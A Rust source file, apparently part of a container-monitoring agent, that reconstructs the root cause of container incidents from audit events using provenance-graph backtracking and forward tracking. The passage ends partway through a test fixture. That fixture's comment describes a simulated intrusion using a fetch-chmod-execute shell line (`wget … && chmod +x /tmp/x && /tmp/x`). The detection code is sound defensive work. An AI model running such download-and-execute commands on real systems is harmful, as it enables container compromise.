//! Root cause of a container's trouble, from the recent audit events ([`crate::audit`]), run by
//! the Thing monitor before it resets the container (the result goes into the incident's
//! `evidence.root_cause`).
//!
//! 1. **Window.** The events stamped in `[until − lookback, until + late]` (`until`: when the
//!    evidence is collected; the analysis waits up to `late` for the reader to get past it),
//!    at most `max_analysis_events` of them (the latest), become a provenance graph
//!    (`mamori_prov::build`).
//! 2. **The container's processes.** Its main process (Docker's `State.Pid`) and everything
//!    descended from its runtime shim (the main process's parent, read from `/proc` now):
//!    `docker exec` processes are not children of the main process but of the shim, by way of
//!    `runc` (the audit log shows them forked by `runc`, then, once `runc` exits, with the shim
//!    as their parent). They are found in the graph by the processes live under the shim now,
//!    by `ppid`, and along fork and exec edges. Processes of the runtime itself (`runc`, the
//!    shim; `[audit] runtime`) are the container's but not its workload.
//! 3. **Detection points**, most recent first, at most `max_detection_points`: the workload's
//!    processes started (exec or fork) in the window, the files they modified, and its
//!    processes another process signalled or ptraced (a hang, like a `SIGSTOP`, leaves no new
//!    process or file behind).
//! 4. **Backward** (BackTracker, `mamori_prov::backtrack`) from each; the entry is chosen over
//!    all the traces (see [`rank`]), then tracked **forward** (`mamori_prov::forward`) to what
//!    it touched: files modified, processes signalled.
//!
//! The work is bounded (events, detection points, nodes drawn) and timed; see the
//! `mamori_audit_analysis_duration_seconds` histogram.

use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet, VecDeque};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use mamori_audit::AuditEvent;
use mamori_prov::{
    backtrack, build, dot_with, format_utc, forward, group_edges, Anchor, DotOptions, EdgeId,
    Entry, EntryKind, Node, NodeId, Op, ProvGraph, Stamp, Trace,
};
use mamori_wot::monitor::RootCauseTarget;
use mamori_wot::status::Histogram;
use serde_json::{json, Value};

use super::audit::{wait_for, FeedState};
use super::config::AuditConfig;
use super::metrics::AuditMetrics;

/// Container processes, touched objects and candidates listed in the JSON (the counts are
/// always given in full).
const MAX_LISTED: usize = 100;
/// Entry candidates listed besides the entry.
const MAX_CANDIDATES: usize = 5;

/// Runs analyses on the feed's events and counts them.
#[derive(Debug)]
pub struct Analyzer {
    config: AuditConfig,
    feed: Arc<Mutex<FeedState>>,
    stats: Mutex<AnalysisStats>,
    /// The agent's own pid: its events are left out of the graph (its probes of every Thing
    /// and its Docker calls would join the containers it watches to each other).
    own_pid: u32,
}

/// What /metrics shows of the analyses.
#[derive(Debug, Clone, Default)]
struct AnalysisStats {
    outcomes: BTreeMap<&'static str, u64>,
    seconds: Histogram,
    last_nodes: u64,
    last_edges: u64,
}

/// How an analysis ended (the `outcome` label of `mamori_audit_analyses_total`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    /// An entry was found and traced.
    Traced,
    /// The container's processes are in the window, but nothing there changed it.
    NoDetectionPoints,
    /// No event of the container's processes in the window.
    NoEvents,
    /// The container does not run: its processes cannot be named.
    NotRunning,
}

impl Outcome {
    fn as_str(self) -> &'static str {
        match self {
            Outcome::Traced => "traced",
            Outcome::NoDetectionPoints => "no_detection_points",
            Outcome::NoEvents => "no_events",
            Outcome::NotRunning => "not_running",
        }
    }
}

impl Analyzer {
    /// An analyzer of `feed`'s events with the `[audit]` settings.
    pub fn new(config: AuditConfig, feed: Arc<Mutex<FeedState>>) -> Analyzer {
        Analyzer {
            config,
            feed,
            stats: Mutex::new(AnalysisStats::default()),
            own_pid: std::process::id(),
        }
    }

    /// The analysis of `target` as the incident's `root_cause` evidence: `{"available": true,
    /// …}` or `{"available": false, "why": …}`. Blocks for at most `late_seconds` waiting for
    /// late events, then for the analysis itself.
    pub fn analyse(&self, target: &RootCauseTarget) -> Value {
        let (outcome, value, elapsed, size) = self.run(target);
        let mut st = self.stats.lock().unwrap_or_else(PoisonError::into_inner);
        *st.outcomes.entry(outcome.as_str()).or_default() += 1;
        st.seconds.observe(elapsed.as_secs_f64());
        if let Some((nodes, edges)) = size {
            st.last_nodes = nodes as u64;
            st.last_edges = edges as u64;
        }
        value
    }

    /// Adds the analyses' counters to the feed's metrics.
    pub fn fill_metrics(&self, m: &mut AuditMetrics) {
        let st = self.stats.lock().unwrap_or_else(PoisonError::into_inner);
        m.analyses = st
            .outcomes
            .iter()
            .map(|(k, v)| (k.to_string(), *v))
            .collect();
        m.analysis_seconds = st.seconds.clone();
        m.last_graph_nodes = st.last_nodes;
        m.last_graph_edges = st.last_edges;
    }

    /// The analysis: outcome, JSON, time taken (the wait excluded), graph size.
    fn run(&self, target: &RootCauseTarget) -> (Outcome, Value, Duration, Option<(usize, usize)>) {
        let t0 = Instant::now();
        let Some(init_pid) = target.init_pid else {
            return (
                Outcome::NotRunning,
                unavailable(format!(
                    "container {} is not running: its processes cannot be named",
                    target.container
                )),
                t0.elapsed(),
                None,
            );
        };
        // the shim is the main process's parent; its descendants are the container's
        let shim = proc_stat(init_pid).map(|s| s.ppid).filter(|&p| p > 1);
        let live = live_tree(shim.unwrap_or(init_pid), init_pid);
        self.run_on(target, init_pid, shim, &live, t0)
    }

    /// The analysis once the container's live processes are known (`t0`: when it began).
    fn run_on(
        &self,
        target: &RootCauseTarget,
        init_pid: u32,
        shim: Option<u32>,
        live: &HashMap<u32, LiveProc>,
        t0: Instant,
    ) -> (Outcome, Value, Duration, Option<(usize, usize)>) {
        let cfg = &self.config;
        let proc_time = t0.elapsed();

        let late_ns = (cfg.late_seconds * 1e9) as i64;
        let (from_ns, to_ns) = (
            target.until_ns - (cfg.lookback_seconds * 1e9) as i64,
            target.until_ns + late_ns,
        );
        // events before the decision may still be on their way (the log is polled, and an event
        // completes when the next one comes): wait, briefly, until the reader is past it
        let waited = wait_for(
            &self.feed,
            target.until_ns,
            Duration::from_secs_f64(cfg.late_seconds),
        );
        let t1 = Instant::now();
        let (events, in_window, caught_up) = {
            let st = self.feed.lock().unwrap_or_else(PoisonError::into_inner);
            let (ev, n) = st
                .ring
                .window(from_ns, to_ns, cfg.max_analysis_events, self.own_pid);
            (ev, n, st.ring.newest_ns >= target.until_ns)
        };
        let snapshot_time = t1.elapsed();
        let window = json!({
            "from": format_utc(from_ns),
            "until": format_utc(target.until_ns),
            "to": format_utc(to_ns),
            "from_ns": from_ns,
            "until_ns": target.until_ns,
            "to_ns": to_ns,
            "since": format_utc(target.since_ns),
            "lookback_seconds": cfg.lookback_seconds,
            "late_seconds": cfg.late_seconds,
            "events_in_window": in_window,
            "agent_pid_left_out": self.own_pid,
            "truncated": in_window > events.len(),
            // an event stamped after the decision had been read: nothing before it is missing
            "caught_up": caught_up,
        });
        let base = |why: String| {
            let mut v = unavailable(why);
            v["window"] = window.clone();
            v["events"] = json!(events.len());
            v["init_pid"] = json!(init_pid);
            v["shim_pid"] = json!(shim);
            v
        };
        if events.is_empty() {
            let mut v = base(format!(
                "no audit event in the {:.0} s before the decision",
                cfg.lookback_seconds
            ));
            v["waited_ms"] = json!(ms(waited));
            return (
                Outcome::NoEvents,
                v,
                t0.elapsed().saturating_sub(waited),
                None,
            );
        }

        let t2 = Instant::now();
        let graph = build(events.iter().map(|e| &**e as &AuditEvent), &cfg.build);
        let build_time = t2.elapsed();
        let size = Some((graph.nodes().len(), graph.edges().len()));
        let container = Container::find(&graph, shim, init_pid, live, &cfg.runtime);
        if container.members.is_empty() {
            let mut v = base(format!(
                "no audit event in the window names a process of container {} (main process \
                 {init_pid}, runtime shim {})",
                target.container,
                shim.map_or("unknown".to_string(), |s| s.to_string())
            ));
            v["waited_ms"] = json!(ms(waited));
            return (
                Outcome::NoEvents,
                v,
                t0.elapsed().saturating_sub(waited),
                size,
            );
        }

        let t3 = Instant::now();
        let (points, points_total) =
            detection_points(&graph, &container, &cfg.prune, cfg.max_detection_points);
        let traces: Vec<Trace> = points
            .iter()
            .map(|p| backtrack(&graph, p.anchor, &cfg.prune))
            .collect();
        let candidates = rank(&graph, &traces, &container);
        let entry = candidates.first();
        let fwd = entry.map(|c| {
            forward(
                &graph,
                Anchor {
                    node: c.node,
                    at: c.at,
                },
                &cfg.prune,
            )
        });
        let track_time = t3.elapsed();

        let t4 = Instant::now();
        let describe = Describe {
            g: &graph,
            container: &container,
            live,
        };
        let processes: Vec<Value> = container
            .members_by_start(&graph)
            .into_iter()
            .take(MAX_LISTED)
            .map(|id| describe.process(id))
            .collect();
        let points_json: Vec<Value> = points
            .iter()
            .zip(&traces)
            .map(|(p, t)| {
                json!({
                    "kind": p.kind,
                    "label": graph.label(p.anchor.node),
                    "at": when(p.anchor.at),
                    "node": describe.node(p.anchor.node),
                    "reaches_entry": entry.is_some_and(|c| t.contains(c.node)),
                    "trace": {"nodes": t.nodes.len(), "edges": t.edges.len()},
                })
            })
            .collect();
        let mut value = json!({
            "available": entry.is_some(),
            "container": target.container,
            "init_pid": init_pid,
            "shim_pid": shim,
            "window": window,
            "events": events.len(),
            "container_processes": processes,
            "container_processes_total": container.members.len(),
            "detection_points": points_json,
            "detection_points_total": points_total,
            "graph": {"nodes": graph.nodes().len(), "edges": graph.edges().len()},
        });
        let outcome = match (entry, &fwd) {
            (Some(c), Some(fwd)) => {
                let (chain_trace, chain) = chain_of(&graph, &traces, c);
                value["entry"] = describe.entry(c, &candidates, points.len());
                value["chain"] = json!(chain
                    .iter()
                    .map(|step| describe.step(step))
                    .collect::<Vec<_>>());
                value["touched"] = describe.touched(fwd);
                value["forward"] = json!({"nodes": fwd.nodes.len(), "edges": fwd.edges.len()});
                // the chosen trace drawn with the entry chosen over all traces
                let mut drawn = traces[chain_trace].clone();
                drawn.entry = Some(Entry {
                    node: c.node,
                    kind: c.kind,
                    at: c.at,
                    edge: c.edge_in(chain_trace),
                    why: String::new(),
                });
                value["dot"] = json!(dot_with(
                    &graph,
                    &drawn,
                    &DotOptions {
                        max_nodes: Some(cfg.dot_max_nodes),
                    }
                ));
                value["dot_detection_point"] = json!(chain_trace);
                Outcome::Traced
            }
            _ => {
                value["why"] = json!(format!(
                    "nothing in the window changed container {}: none of its processes started, \
                     modified a file or was signalled",
                    target.container
                ));
                Outcome::NoDetectionPoints
            }
        };
        let render_time = t4.elapsed();
        let elapsed = t0.elapsed().saturating_sub(waited);
        value["waited_ms"] = json!(ms(waited));
        value["elapsed_ms"] = json!(ms(elapsed));
        value["timings_ms"] = json!({
            "proc": ms(proc_time),
            "snapshot": ms(snapshot_time),
            "build": ms(build_time),
            "track": ms(track_time),
            "render": ms(render_time),
        });
        (outcome, value, elapsed, size)
    }
}

fn unavailable(why: String) -> Value {
    json!({"available": false, "why": why})
}

fn ms(d: Duration) -> f64 {
    (d.as_secs_f64() * 1e6).round() / 1e3
}

fn when(s: Stamp) -> Value {
    json!({"utc": s.utc(), "ns": s.time_ns, "serial": s.serial})
}

// ---- the container's processes ---------------------------------------------------------------

/// A process under the shim now, from `/proc`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct LiveProc {
    ppid: u32,
    comm: String,
    exe: String,
    cmdline: Vec<String>,
}

/// `/proc/PID/stat`'s parent pid and command name.
fn proc_stat(pid: u32) -> Option<LiveProc> {
    let stat = mamori_core::procfs::read_stat("/proc", pid)?;
    Some(LiveProc {
        ppid: stat.ppid,
        comm: stat.comm,
        ..LiveProc::default()
    })
}

/// The processes descended from `root` now (`root` itself excluded unless it is `init_pid`),
/// with their programs and arguments.
fn live_tree(root: u32, init_pid: u32) -> HashMap<u32, LiveProc> {
    let mut children: HashMap<u32, Vec<u32>> = HashMap::new();
    let mut all: HashMap<u32, LiveProc> = HashMap::new();
    if let Ok(dir) = std::fs::read_dir("/proc") {
        for entry in dir.flatten() {
            let Some(pid) = entry
                .file_name()
                .to_str()
                .and_then(|n| n.parse::<u32>().ok())
            else {
                continue;
            };
            if let Some(p) = proc_stat(pid) {
                children.entry(p.ppid).or_default().push(pid);
                all.insert(pid, p);
            }
        }
    }
    let mut out = HashMap::new();
    let mut queue: VecDeque<u32> = VecDeque::from([root]);
    let mut seen = HashSet::from([root]);
    while let Some(pid) = queue.pop_front() {
        if pid != root || pid == init_pid {
            if let Some(mut p) = all.remove(&pid) {
                p.exe = std::fs::read_link(format!("/proc/{pid}/exe"))
                    .map(|l| l.to_string_lossy().into_owned())
                    .unwrap_or_default();
                p.cmdline = std::fs::read(format!("/proc/{pid}/cmdline"))
                    .map(|b| {
                        b.split(|&c| c == 0)
                            .filter(|a| !a.is_empty())
                            .map(|a| String::from_utf8_lossy(a).into_owned())
                            .collect()
                    })
                    .unwrap_or_default();
                out.insert(pid, p);
            }
        }
        for &c in children.get(&pid).map(Vec::as_slice).unwrap_or_default() {
            if seen.insert(c) {
                queue.push_back(c);
            }
        }
    }
    out
}

/// The runtime patterns' matcher: mamori-prov's (`*` any run, slashes included; `?` one
/// character), the one its pruning rules use.
fn glob(pattern: &str, text: &str) -> bool {
    mamori_prov::glob_match(pattern, text)
}

/// The container's process nodes in the graph.
#[derive(Debug, Default)]
struct Container {
    /// Every process image of the container (runtime included).
    members: HashSet<NodeId>,
    /// Those that are the runtime's (runc, the shim's helpers), not the workload's.
    runtime: HashSet<NodeId>,
}

impl Container {
    /// Finds the container's processes: see the module documentation.
    fn find(
        g: &ProvGraph,
        shim: Option<u32>,
        init_pid: u32,
        live: &HashMap<u32, LiveProc>,
        runtime: &[String],
    ) -> Container {
        let proc_of = |id: NodeId| g.node(id).as_process();
        // process → process fork and exec edges, by source
        let mut children: HashMap<NodeId, Vec<NodeId>> = HashMap::new();
        for e in g.edges() {
            if matches!(e.op, Op::Fork | Op::Exec)
                && proc_of(e.src).is_some()
                && proc_of(e.dst).is_some()
            {
                children.entry(e.src).or_default().push(e.dst);
            }
        }
        let shim_nodes: HashSet<NodeId> = shim
            .map(|pid| current_images(g, pid).into_iter().collect())
            .unwrap_or_default();
        let mut seeds: Vec<NodeId> = Vec::new();
        for &pid in live.keys().chain(std::iter::once(&init_pid)) {
            if Some(pid) != shim {
                seeds.extend(current_images(g, pid));
            }
        }
        for n in &shim_nodes {
            seeds.extend(children.get(n).into_iter().flatten().copied());
        }
        if let Some(shim) = shim {
            // reparented to the shim (a subreaper) once runc exited: `docker exec`'s process
            seeds.extend(
                (0..g.nodes().len() as u32)
                    .map(NodeId)
                    .filter(|&id| proc_of(id).is_some_and(|p| p.ppid == shim && p.pid != shim)),
            );
        }
        let mut members = HashSet::new();
        let mut queue: VecDeque<NodeId> = seeds.into_iter().collect();
        while let Some(id) = queue.pop_front() {
            if shim_nodes.contains(&id) || !members.insert(id) {
                continue;
            }
            queue.extend(children.get(&id).into_iter().flatten().copied());
        }
        let runtime = members
            .iter()
            .copied()
            .filter(|&id| {
                proc_of(id).is_some_and(|p| {
                    runtime
                        .iter()
                        .any(|pat| glob(pat, &p.exe) || glob(pat, &p.comm))
                })
            })
            .collect();
        Container { members, runtime }
    }

    /// A process of the container's workload (not the runtime's).
    fn workload(&self, id: NodeId) -> bool {
        self.members.contains(&id) && !self.runtime.contains(&id)
    }

    fn members_by_start(&self, g: &ProvGraph) -> Vec<NodeId> {
        let mut v: Vec<NodeId> = self.members.iter().copied().collect();
        v.sort_by_key(|&id| (g.process_start(id), id));
        v
    }
}

/// The images of the process now running as `pid`: its newest node and the ones it exec'd
/// from (a pid is reused by other processes within minutes on a busy host, so older nodes of
/// the pid that the newest did not come from by exec are someone else).
fn current_images(g: &ProvGraph, pid: u32) -> Vec<NodeId> {
    let nodes = g.processes_with_pid(pid);
    let Some(&newest) = nodes.last() else {
        return Vec::new();
    };
    let mut out = vec![newest];
    let mut cur = newest;
    loop {
        let prev = g.edges().iter().find(|e| {
            e.op == Op::Exec
                && e.dst == cur
                && g.node(e.src).as_process().is_some_and(|p| p.pid == pid)
        });
        match prev {
            Some(e) if !out.contains(&e.src) => {
                out.push(e.src);
                cur = e.src;
            }
            _ => return out,
        }
    }
}

// ---- detection points ------------------------------------------------------------------------

/// Where a backward trace starts.
#[derive(Debug, Clone, Copy)]
struct Point {
    /// `process` (started in the window), `file` (modified), `signalled`.
    kind: &'static str,
    anchor: Anchor,
}

/// Operations that modify a file.
fn modifies(op: Op) -> bool {
    matches!(
        op,
        Op::Write
            | Op::Create
            | Op::Rename
            | Op::Unlink
            | Op::Chmod
            | Op::Chown
            | Op::Truncate
            | Op::Link
    )
}

/// The detection points, most recent first, at most `max`; and how many there were.
fn detection_points(
    g: &ProvGraph,
    c: &Container,
    rules: &mamori_prov::PruneRules,
    max: usize,
) -> (Vec<Point>, usize) {
    let mut points: Vec<Point> = Vec::new();
    for &id in &c.members {
        let Some(p) = g.node(id).as_process() else {
            continue;
        };
        // first sightings (a process known by pid only) started before the window
        if c.workload(id) && p.origin != mamori_prov::Origin::Seen {
            if let Some(at) = g.process_start(id) {
                points.push(Point {
                    kind: "process",
                    anchor: Anchor { node: id, at },
                });
            }
        }
    }
    // per file and per signalled process: the latest event
    let mut files: HashMap<NodeId, Stamp> = HashMap::new();
    let mut signalled: HashMap<NodeId, Stamp> = HashMap::new();
    for e in g.edges() {
        match g.node(e.dst) {
            // a file with a name outside the noise rules (or no name logged at all)
            Node::File(f)
                if modifies(e.op)
                    && c.workload(e.src)
                    && (f.paths.is_empty() || !f.paths.iter().all(|p| rules.is_noise(p))) =>
            {
                let s = files.entry(e.dst).or_insert(e.stamp);
                *s = (*s).max(e.stamp);
            }
            Node::Process(_)
                if matches!(e.op, Op::Kill | Op::Ptrace) && e.src != e.dst && c.workload(e.dst) =>
            {
                let s = signalled.entry(e.dst).or_insert(e.stamp);
                *s = (*s).max(e.stamp);
            }
            _ => {}
        }
    }
    points.extend(files.into_iter().map(|(node, at)| Point {
        kind: "file",
        anchor: Anchor { node, at },
    }));
    points.extend(signalled.into_iter().map(|(node, at)| Point {
        kind: "signalled",
        anchor: Anchor { node, at },
    }));
    points.sort_by(|a, b| {
        b.anchor
            .at
            .cmp(&a.anchor.at)
            .then(a.anchor.node.cmp(&b.anchor.node))
    });
    let total = points.len();
    points.truncate(max);
    (points, total)
}

// ---- the entry -------------------------------------------------------------------------------

/// One input that a trace found: a socket into a process, or a root-most process.
#[derive(Debug, Clone, Copy)]
struct Input {
    trace: usize,
    at: Stamp,
    edge: Option<EdgeId>,
    /// The process the socket's input went into.
    receiver: Option<NodeId>,
    /// The receiver is a process of the container's workload.
    into_workload: bool,
    /// … and the trace's path from it to the detection point stays in the container (its
    /// processes are the container's): the input entered the container there. An input into
    /// the container whose effect left it and came back in (the device answered the monitor,
    /// which answered the test, whose child served the download) is not how the detection
    /// point was reached.
    direct: bool,
}

impl Input {
    /// Orders a candidate's inputs: direct ones first, then the earliest.
    fn order(&self) -> (bool, bool, Stamp) {
        (!self.direct, !self.into_workload, self.at)
    }
}

/// An entry candidate over all the traces.
#[derive(Debug, Clone)]
struct Candidate {
    node: NodeId,
    kind: EntryKind,
    /// The input that represents it: a direct one if any, the earliest.
    best: Input,
    inputs: Vec<Input>,
    /// Traces (detection points) in which it was a direct input into the container.
    direct_in: BTreeSet<usize>,
    /// Traces (detection points) it was found in.
    found_in: BTreeSet<usize>,
    at: Stamp,
}

impl Candidate {
    /// Its edge in trace `t` (see [`Candidate::input_in`]).
    fn edge_in(&self, t: usize) -> Option<EdgeId> {
        self.input_in(t).and_then(|i| i.edge)
    }

    /// Its input in trace `t`: a direct one first, then the earliest.
    fn input_in(&self, t: usize) -> Option<&Input> {
        self.inputs
            .iter()
            .filter(|i| i.trace == t)
            .min_by_key(|i| i.order())
    }

    /// How many detection points it explains: where it was a direct input, if anywhere.
    fn explains(&self) -> usize {
        if self.direct_in.is_empty() {
            self.found_in.len()
        } else {
            self.direct_in.len()
        }
    }

    fn rank_key(&self) -> (bool, bool, u8, std::cmp::Reverse<usize>, Stamp, NodeId) {
        let kind = match self.kind {
            EntryKind::NetworkPeer => 0,
            EntryKind::LocalSocket => 1,
            EntryKind::RootProcess => 2,
        };
        (
            !self.best.direct,
            !self.best.into_workload,
            kind,
            std::cmp::Reverse(self.explains()),
            self.at,
            self.node,
        )
    }
}

/// Whether the trace's path from `receiver` to its start passes through the container's
/// processes only.
fn stays_in_container(g: &ProvGraph, t: &Trace, receiver: NodeId, c: &Container) -> bool {
    c.members.contains(&receiver)
        && t.path_to_start(receiver, g).iter().all(|&eid| {
            let dst = g.edge(eid).dst;
            g.node(dst).as_process().is_none() || c.members.contains(&dst)
        })
}

/// Entry candidates over every trace, most likely first:
///
/// 1. direct inputs into the container (see [`Input::direct`]) before the others, then other
///    inputs into its workload: the runtime's and the host's inputs (containerd's sockets, the
///    shell that ran `docker`) are the same for every container and every exec, and the
///    question is how the container was reached;
/// 2. network peers, then local sockets, then root-most processes (BackTracker's order: input
///    from outside the host first);
/// 3. the one that more detection points trace back to: the container's own clients (the
///    monitor's probes of the device) explain the device only, the intruder's download also
///    the processes, files and signals that followed;
/// 4. the earliest (BackTracker: of each process's latest socket input, the earliest is the
///    way in; later ones, like a reverse shell's commands, come after it).
///
/// Per trace, a process's socket inputs count by its latest one (network and local apart), as
/// in BackTracker: a server's earlier clients are not the one that led on.
fn rank(g: &ProvGraph, traces: &[Trace], c: &Container) -> Vec<Candidate> {
    let mut by_node: BTreeMap<NodeId, Candidate> = BTreeMap::new();
    let mut add = |node: NodeId, kind: EntryKind, input: Input| {
        let cand = by_node.entry(node).or_insert_with(|| Candidate {
            node,
            kind,
            best: input,
            inputs: Vec::new(),
            direct_in: BTreeSet::new(),
            found_in: BTreeSet::new(),
            at: input.at,
        });
        if input.order() < cand.best.order() {
            cand.best = input;
        }
        cand.at = cand.best.at;
        cand.found_in.insert(input.trace);
        if input.direct {
            cand.direct_in.insert(input.trace);
        }
        cand.inputs.push(input);
    };
    for (ti, t) in traces.iter().enumerate() {
        // (receiver, local) → its latest socket input
        let mut latest: BTreeMap<(NodeId, bool), (Stamp, EdgeId)> = BTreeMap::new();
        for &eid in &t.edges {
            let e = g.edge(eid);
            if let (Node::Socket(s), Node::Process(_)) = (g.node(e.src), g.node(e.dst)) {
                let cur = latest.entry((e.dst, s.local)).or_insert((e.stamp, eid));
                if e.stamp > cur.0 {
                    *cur = (e.stamp, eid);
                }
            }
        }
        for ((receiver, local), (at, eid)) in latest {
            let kind = if local {
                EntryKind::LocalSocket
            } else {
                EntryKind::NetworkPeer
            };
            let into_workload = c.workload(receiver);
            add(
                g.edge(eid).src,
                kind,
                Input {
                    trace: ti,
                    at,
                    edge: Some(eid),
                    receiver: Some(receiver),
                    into_workload,
                    direct: into_workload && stays_in_container(g, t, receiver, c),
                },
            );
        }
        for e in t
            .entry_candidates
            .iter()
            .filter(|e| e.kind == EntryKind::RootProcess)
        {
            add(
                e.node,
                EntryKind::RootProcess,
                Input {
                    trace: ti,
                    at: e.at,
                    edge: e.edge,
                    receiver: None,
                    into_workload: false,
                    direct: false,
                },
            );
        }
    }
    let mut out: Vec<Candidate> = by_node.into_values().collect();
    out.sort_by_key(Candidate::rank_key);
    out
}

/// The chain from the entry to a detection point, in the most recent detection point's trace
/// that found the entry: the entry's input edge, then the trace's path on to its start.
/// Returns the trace's index and the steps (node, and the edge into it).
fn chain_of(
    g: &ProvGraph,
    traces: &[Trace],
    c: &Candidate,
) -> (usize, Vec<(NodeId, Option<EdgeId>)>) {
    // detection points are most recent first: the first trace where it is what it was
    // chosen as (a direct input, if it was chosen as one)
    let t = c
        .found_in
        .iter()
        .copied()
        .find(|&t| c.input_in(t).is_some_and(|i| i.direct == c.best.direct))
        .unwrap_or(c.best.trace);
    let Some(input) = c.input_in(t).copied() else {
        return (t, vec![(c.node, None)]);
    };
    let trace = &traces[t];
    let mut steps = vec![(c.node, None)];
    let from = match (input.edge, input.receiver) {
        (Some(eid), Some(receiver)) => {
            steps.push((receiver, Some(eid)));
            receiver
        }
        _ => c.node,
    };
    for eid in trace.path_to_start(from, g) {
        steps.push((g.edge(eid).dst, Some(eid)));
    }
    (t, steps)
}

// ---- presentation ----------------------------------------------------------------------------

/// Renders graph nodes for the JSON.
struct Describe<'a> {
    g: &'a ProvGraph,
    container: &'a Container,
    live: &'a HashMap<u32, LiveProc>,
}

impl Describe<'_> {
    /// A process: pid, program, arguments, start; the program and arguments from `/proc` when
    /// the log never showed them (a process known only as a signal's target) and it runs in
    /// the container now.
    fn process(&self, id: NodeId) -> Value {
        let Some(p) = self.g.node(id).as_process() else {
            return self.node(id);
        };
        let mut v = json!({
            "node": id,
            "pid": p.pid,
            "ppid": p.ppid,
            "exe": p.exe,
            "argv": p.argv,
            "comm": p.comm,
            "uid": p.uid,
            "origin": p.origin,
            "started": when(Stamp { time_ns: p.start_ns, serial: p.start_serial }),
            "in_container": self.container.members.contains(&id),
            "runtime": self.container.runtime.contains(&id),
        });
        if p.exe.is_empty() && self.container.members.contains(&id) {
            if let Some(l) = self.live.get(&p.pid) {
                v["exe"] = json!(l.exe);
                v["argv"] = json!(l.cmdline);
                v["exe_from"] = json!("/proc");
            }
        }
        v
    }

    /// Any node.
    fn node(&self, id: NodeId) -> Value {
        match self.g.node(id) {
            Node::Process(_) => self.process(id),
            Node::File(f) => {
                json!({"node": id, "kind": "file", "paths": f.paths, "inode": f.inode})
            }
            Node::Socket(s) => {
                json!({"node": id, "kind": "socket", "addr": s.addr, "local": s.local})
            }
            Node::Pipe(p) => json!({"node": id, "kind": "pipe", "pid": p.pid}),
        }
    }

    fn step(&self, &(id, edge): &(NodeId, Option<EdgeId>)) -> Value {
        let n = self.g.node(id);
        let mut v = match n {
            Node::Process(_) => self.process(id),
            _ => self.node(id),
        };
        v["kind"] = json!(n.kind());
        v["label"] = json!(self.g.label(id));
        if let Some(eid) = edge {
            let e = self.g.edge(eid);
            v["by"] = json!({
                "op": e.op,
                "at": when(e.stamp),
                "detail": self.g.detail(e),
            });
        }
        v
    }

    fn entry(&self, c: &Candidate, all: &[Candidate], points: usize) -> Value {
        let into = c.best.receiver.map(|r| self.process(r));
        let kind_text = match c.kind {
            EntryKind::NetworkPeer => "network peer",
            EntryKind::LocalSocket => "local socket",
            EntryKind::RootProcess => "root-most process",
        };
        let how = match (c.best.receiver, c.best.edge) {
            (Some(r), Some(e)) => format!(
                "{} received its input ({} at {}), {}",
                self.g.label(r),
                self.g.edge(e).op,
                c.at.utc(),
                match (c.best.into_workload, c.best.direct) {
                    (true, true) => {
                        "a process of the container's workload, from which the trace stays in the \
                         container up to the detection point"
                    }
                    (true, false) => {
                        "a process of the container's workload, though the trace leaves the \
                         container on its way to the detection point"
                    }
                    _ => "not a process of the container's workload",
                }
            ),
            _ => format!(
                "nothing in the traces caused it (first effect at {})",
                c.at.utc()
            ),
        };
        let why = format!(
            "{kind_text} {}: {how}; {} of {points} detection points trace back to it{}. Chosen \
             because inputs that entered the container (into its workload, the trace staying in \
             the container from there) come first (the runtime's and the host's inputs are the \
             same for every container), then network peers before local sockets before \
             root-most processes, then the input more detection points trace back to, then the \
             earliest.",
            self.g.label(c.node),
            c.explains(),
            if c.best.direct { " directly" } else { "" },
        );
        let others: Vec<Value> = all
            .iter()
            .skip(1)
            .take(MAX_CANDIDATES)
            .map(|o| {
                json!({
                    "kind": o.kind,
                    "label": self.g.label(o.node),
                    "at": when(o.at),
                    "into": o.best.receiver.map(|r| self.g.label(r)),
                    "into_workload": o.best.into_workload,
                    "direct": o.best.direct,
                    "explains": o.explains(),
                })
            })
            .collect();
        json!({
            "kind": c.kind,
            "label": self.g.label(c.node),
            "node": self.node(c.node),
            "at": when(c.at),
            "into": into,
            "into_workload": c.best.into_workload,
            "direct": c.best.direct,
            "explains": c.explains(),
            "why": why,
            "candidates": others,
            "candidates_total": all.len(),
        })
    }

    /// What forward tracking from the entry reached and changed: files modified, processes
    /// signalled or ptraced; in time order.
    fn touched(&self, fwd: &Trace) -> Value {
        let mut items: Vec<(Stamp, Value)> = Vec::new();
        for grp in group_edges(self.g, fwd) {
            let src_is_proc = self.g.node(grp.src).as_process().is_some();
            let item = match self.g.node(grp.dst) {
                Node::File(f) if src_is_proc && modifies(grp.op) => json!({
                    "kind": "file",
                    "label": self.g.label(grp.dst),
                    "paths": f.paths,
                    "in_container": self.container.workload(grp.src),
                }),
                Node::Process(_) if src_is_proc && matches!(grp.op, Op::Kill | Op::Ptrace) => {
                    let mut v = self.process(grp.dst);
                    v["kind"] = json!("process");
                    v["label"] = json!(self.g.label(grp.dst));
                    v
                }
                _ => continue,
            };
            let mut item = item;
            item["op"] = json!(grp.op);
            item["by"] = json!(self.g.label(grp.src));
            item["count"] = json!(grp.count);
            item["at"] = when(grp.first);
            item["detail"] = json!(self.g.detail(self.g.edge(grp.first_edge)));
            items.push((grp.first, item));
        }
        items.sort_by_key(|(at, _)| *at);
        let total = items.len();
        json!({
            "items": items.into_iter().take(MAX_LISTED).map(|(_, v)| v).collect::<Vec<_>>(),
            "total": total,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::Ring;
    use mamori_prov::testkit::{inet, Proc, Sim};

    const T0: i64 = 1_796_588_000_000_000_000;

    /// A device container (shim 500, docker-init 510, device 511) probed over loopback by the
    /// agent (300), then `docker exec`: runc (520) forks the container's process (521), which
    /// the shim adopts, `sh -c 'wget … && chmod +x /tmp/x && /tmp/x'`; the script stops the
    /// device. A web server on the host (400) serves the script; unrelated host work goes on.
    fn intrusion() -> (Vec<mamori_audit::AuditEvent>, i64) {
        let mut sim = Sim::new(T0);
        let shim = Proc::new(500, 1, "/usr/bin/containerd-shim-runc-v2");
        let device = Proc::new(511, 510, "/mamori-wot-device");
        let mut agent = Proc::new(300, 1, "/usr/local/bin/mamori");
        let mut dev = device.clone();
        let lfd = sim.bind(&mut dev, inet("127.0.0.1", 8080));
        let afd = sim.bind(&mut agent, inet("127.0.0.1", 9464));
        // the tester reads the agent's API and runs the web server: local sockets join the
        // web server's past to the agent's, and so to the device's probes
